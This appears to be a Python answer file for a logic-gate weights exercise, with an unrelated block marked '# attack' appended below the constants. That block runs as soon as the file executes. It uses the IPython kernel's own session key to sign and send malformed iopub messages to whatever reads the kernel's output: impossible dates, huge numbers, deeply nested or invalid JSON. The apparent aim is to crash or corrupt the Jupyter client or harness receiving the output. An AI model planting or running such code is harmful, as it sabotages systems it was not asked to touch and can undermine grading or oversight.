and_weights = (0.5, 0.5, 0.7)
or_weights = (1.0, 1.0, 2.5)

nand_weights = (0.5, 0.5, 0.7)
robust_weights = (0.0, 0.0, 0.0)

and_bias = 0.8
nand_from_and = "b"
nand_zero = "b"

# attack
from IPython import get_ipython


def send():
    kernel = get_ipython().kernel
    session, line, parent = kernel.session, kernel.iopub_socket, kernel.get_parent()
    import json

    def sent(header, parent=b"{}"):
        parts = [header, parent, b"{}", b"{}"]
        line.send_multipart([b"stream", b"<IDS|MSG>", session.sign(parts), *parts])

    for date in ("9999999-99-99T99:99:99", "2026-01-01T00:00:00+99:99", "0000-00-00T00:00:00Z", "2026-02-30T25:61:61.999999999Z", "2026-01-01T00:00:00.999999999999999999999999Z", 10**400, "9" * 5000):
        sent(json.dumps({"msg_type": "stream", "msg_id": "x", "date": date, "version": "5.3"}).encode())
    for header in (b"[]", b"null", b"7", b"\xff\xfe", b"{", b"[" * 50_000, b"9" * 9000, json.dumps({"msg_type": ["x"], "msg_id": {}}).encode()):
        sent(header)
        sent(b"{}", header)


send()
# end of attack
